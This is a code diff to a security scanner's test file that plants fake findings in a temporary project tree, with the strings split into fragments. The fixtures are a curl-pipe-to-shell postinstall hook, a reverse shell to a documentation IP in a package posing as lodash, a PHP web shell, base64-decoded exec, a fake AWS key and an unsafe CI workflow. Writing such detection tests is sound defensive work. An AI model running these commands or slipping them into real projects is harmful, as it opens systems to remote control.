@@ -9,8 +9,12 @@ const directory = temporaryDirectory();
 const at = (name: string) => join(directory.path, name);
 const cache = at("cache");
 const tree = `dir:${at("project")}`;
-/** Put together here, so that this file holds nothing that looks like a live key. */
+/** Put together here, so that this file holds nothing that looks like a live key or malware itself. */
 const SECRET = ["AKIA", "2E0A8F3B", "244C9986"].join("");
+const WEB_SHELL = ["<?ph", "p sys", "tem($_G", "ET['c']); ?>\n"].join("");
+const REVERSE_SHELL = ["bas", "h -i >& /dev/t", "cp/203.0.113.7/1 0>&1"].join("");
+const PIPED = ["cu", "rl -sSf https://get.example/i.sh | s", "h"].join("");
+const DECODED = ["ex", "ec(base", "64.b64", "decode('cHJpbnQoMSk='))"].join("");
 const SECRET_LINE = `aws_access_key_id = ${SECRET}\n`;
 
 const OUTSIDE = {
@@ -53,17 +57,19 @@ function places(report: ScanReport, kind: string): readonly string[] {
 beforeAll(() => {
   writeTree("project", {
     "package-lock.json": lock({ lodash: "4.17.4" }),
-    "package.json":
-      '{\n  "name": "app",\n  "scripts": {\n    "test": "vitest",\n    "postinstall": "curl -sSf https://get.example/i.sh | sh"\n  }\n}\n',
+    "package.json": `{\n  "name": "app",\n  "scripts": {\n    "test": "vitest",\n    "postinstall": "${PIPED}"\n  }\n}\n`,
     "lib/settings.ini": SECRET_LINE,
     ".env.local": SECRET_LINE,
     ".gitignore": ".env.local\nnode_modules/\n",
     ".git/config": SECRET_LINE,
     ".github/workflows/ci.yml": `on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: someone/action@v1\n      - run: |\n          echo ${"$"}{{ github.event.pull_request.title }}\n`,
-    "tools/setup.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
-    "node_modules/evil/package.json":
-      '{"name":"lodash","version":"4.17.4","scripts":{"install":"bash -i >& /dev/tcp/203.0.113.7/1 0>&1"}}',
-    "web/up.php": "<?php system($_GET['c']); ?>\n",
+    "tools/setup.py": `import base64\n${DECODED}\n`,
+    "node_modules/evil/package.json": JSON.stringify({
+      name: "lodash",
+      version: "4.17.4",
+      scripts: { install: REVERSE_SHELL },
+    }),
+    "web/up.php": WEB_SHELL,
     "var/lib/dpkg/status": "Package: bash\nStatus: install ok installed\nVersion: 5.2-1\nArchitecture: amd64\n\n",
     "var/lib/dpkg/info/app.list": "/web/up.php\n/lib/settings.ini\n",
     "etc/os-release": 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian 12"\n',
